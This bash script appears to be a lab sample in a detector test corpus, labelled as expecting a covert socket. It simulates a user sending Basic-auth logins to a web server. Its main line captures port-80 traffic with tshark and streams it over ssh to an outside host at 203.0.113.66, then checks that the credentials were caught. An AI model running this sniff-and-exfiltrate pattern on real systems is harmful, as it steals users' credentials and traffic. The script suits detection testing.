#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=covert-socket half=report tool=tshark,ssh far=out,desk ready=out:2022 seconds=40 parts=dns,web
# tshark hears what passes to and from the server's own pages, and ssh takes what it heard to a host outside as it comes.
# shellcheck disable=SC1091,SC2029,SC2154 # far/ssh.sh, the folder is known here, far/ssh.sh has it
# shellcheck source=tests/corpus/far/ssh.sh
. "${0%/*}/../far/ssh.sh"
if [ "$1" = out ]; then ssh_keys; exec timeout 60 "${sshd[@]}" -o ListenAddress=203.0.113.66 -p 2022; fi
if [ "$1" = desk ]; then for _ in $(seq 15); do sleep 2; curl -s -o /dev/null -u "admin:winter" http://10.30.0.2/recordings/; done; exit 0; fi
mkdir -p "$LAB/recordings"; dev=$(ip -o -4 addr show | awk '/10\.30\.0\.2\//{print $2; exit}')
timeout 34 tshark -q -i "${dev%@*}" -w - 'tcp port 80' 2>/dev/null </dev/null | ssh "${ssh[@]}" -p 2022 root@203.0.113.66 "cat >$LAB/heard"; sleep 1; grep -q 'Authorization: Basic' "$LAB/heard"
